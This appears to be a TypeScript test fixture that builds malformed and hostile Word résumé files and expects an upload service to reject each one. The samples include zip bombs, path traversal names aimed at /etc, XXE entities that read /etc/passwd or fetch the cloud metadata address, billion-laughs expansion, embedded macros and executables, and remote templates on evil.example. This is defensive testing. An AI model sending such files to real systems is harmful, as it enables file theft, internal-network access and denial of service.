import type { HostileFile } from './hostile-files.ts'
import { writeZip, type ZipEntry } from './write-zip.ts'

const namespaces = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const paragraph = '<w:p><w:r><w:t>Ann Example, nurse, ann@example.org</w:t></w:r></w:p>'
const documentOf = (body: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<w:document ${namespaces}><w:body>${body}</w:body></w:document>`
const contentTypes = (main = 'document.main+xml'): string =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.${main}"/></Types>`

const DOCUMENT = 'word/document.xml'

/** A small Word file with these parts added, or in the place of its own. */
export function wordFile(...parts: ZipEntry[]): Buffer {
  const own = [
    { name: '[Content_Types].xml', content: contentTypes() },
    { name: DOCUMENT, content: documentOf(paragraph) },
  ]
  const names = new Set(parts.map(({ name }) => name))
  return writeZip([...own.filter(({ name }) => !names.has(name)), ...parts])
}

const withBody = (body: string, before = ''): Buffer =>
  wordFile({ name: DOCUMENT, content: documentOf(body, before) })

const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const related = (part: string, type: string, target: string): Buffer =>
  wordFile({
    name: `word/_rels/${part}.xml.rels`,
    content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relationships}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  })

const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1_000_000, ' ')

const make =
  (code: string) =>
  (what: string, bytes: () => Uint8Array): HostileFile => ({
    what,
    name: 'cv.docx',
    bytes,
    status: 422,
    code,
  })
const corrupt = make('resume_corrupt')
const active = make('resume_active_content')
const encrypted = make('resume_encrypted')
const tooLong = make('resume_too_long')
const empty = make('resume_empty')

export const hostileWordFiles: readonly HostileFile[] = [
  corrupt('a signature and nothing more', () => Buffer.from('PK\x03\x04')),
  corrupt('a Word file cut in the middle', () => wordFile().subarray(0, 400)),
  corrupt('a zip of something else', () => writeZip([{ name: 'readme.txt', content: 'hello' }])),
  corrupt('a zip in a zip in a zip', () => {
    const inner = writeZip([{ name: 'zeros', content: zeros(5) }])
    return writeZip(
      [{ name: 'b.zip', content: writeZip([{ name: 'a', content: inner }]) }].map((entry) => ({
        ...entry,
        name: 'word/b',
      })),
    )
  }),
  corrupt('a document that unpacks to 30 MB', () => wordFile({ name: DOCUMENT, content: zeros(30) })),
  corrupt('a document a thousandth of its size', () => wordFile({ name: DOCUMENT, content: zeros(5) })),
  corrupt('a document larger than it says', () =>
    wordFile({ name: DOCUMENT, content: zeros(5), claims: { uncompressed: 10_000 } }),
  ),
  corrupt('headers that are large together', () =>
    wordFile(...Array.from({ length: 45 }, (_, n) => ({ name: `word/header${n}.xml`, content: zeros(1) }))),
  ),
  corrupt('a picture that says it is 4 GB', () =>
    wordFile({ name: 'word/media/a.png', content: 'x', claims: { uncompressed: 4_000_000_000 } }),
  ),
  corrupt('5,000 parts', () =>
    wordFile(...Array.from({ length: 5_000 }, (_, n) => ({ name: `word/media/${n}`, content: '' }))),
  ),
  corrupt('two documents of one name', () =>
    writeZip([1, 2].map((n) => ({ name: DOCUMENT, content: documentOf(`${paragraph}${n}`) }))),
  ),
  corrupt('a part above its folder', () => wordFile({ name: '../../etc/cron.d/evil', content: 'x' })),
  corrupt('a part from the root', () => wordFile({ name: '/etc/passwd', content: 'x' })),
  corrupt('gzip where the document should be', () =>
    wordFile({ name: DOCUMENT, content: Buffer.from([0x1f, 0x8b, 8, 0]) }),
  ),
  corrupt('tables 60,000 deep', () => withBody('<w:tbl><w:tr><w:tc>'.repeat(60_000) + paragraph)),
  encrypted('parts with a password', () =>
    wordFile({ name: DOCUMENT, content: documentOf(paragraph), claims: { encrypted: true } }),
  ),
  encrypted('a Word file with a password', () =>
    Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), zeros(1)]),
  ),
  tooLong('a million words', () =>
    withBody(
      Array.from(
        { length: 12_000 },
        (_, n) => `<w:p><w:r><w:t>Paragraph ${n} of a very long book</w:t></w:r></w:p>`,
      ).join(''),
    ),
  ),
  empty('an attribute of 15 MB', () =>
    withBody(
      `<w:p w:rsidR="${Buffer.alloc(7_000_000, 'A0b1C2d3E4f5G6h7').toString()}${Array.from({ length: 1_000_000 }, (_, n) => n.toString(36)).join('')}"/>`,
    ),
  ),
  empty('200,000 tags that never close', () =>
    withBody(Array.from({ length: 200_000 }, (_, n) => `<w:p w:a${n} `).join('')),
  ),
  active('macros', () => wordFile({ name: 'word/vbaProject.bin', content: 'x' })),
  active('macros by the type of its main part', () =>
    wordFile({ name: '[Content_Types].xml', content: contentTypes('document.macroEnabled.main+xml') }),
  ),
  active('an ActiveX control', () => wordFile({ name: 'word/activeX/activeX1.xml', content: '<x/>' })),
  active('a program inside', () => wordFile({ name: 'word/embeddings/setup.exe', content: 'MZ' })),
  active('a zip inside', () =>
    wordFile({ name: 'word/embeddings/more.zip', content: writeZip([{ name: 'zeros', content: zeros(5) }]) }),
  ),
  active('an entity that reads a file', () =>
    withBody(paragraph, '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
  ),
  active('an entity that fetches', () =>
    withBody(paragraph, '<!DOCTYPE x [<!ENTITY % f SYSTEM "http://169.254.169.254/"> %f;]>'),
  ),
  active('a billion laughs', () => withBody(paragraph, `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`)),
  active('a template from elsewhere', () =>
    related('settings', 'attachedTemplate', 'https://evil.example/t.dotm'),
  ),
  active('a template from another machine', () =>
    related('settings', 'attachedTemplate', '\\\\evil.example\\share\\t.dotm'),
  ),
  active('an object from elsewhere', () => related('document', 'oleObject', 'https://evil.example/o')),
  active('a frame from elsewhere', () => related('document', 'frame', 'http://169.254.169.254/latest')),
]
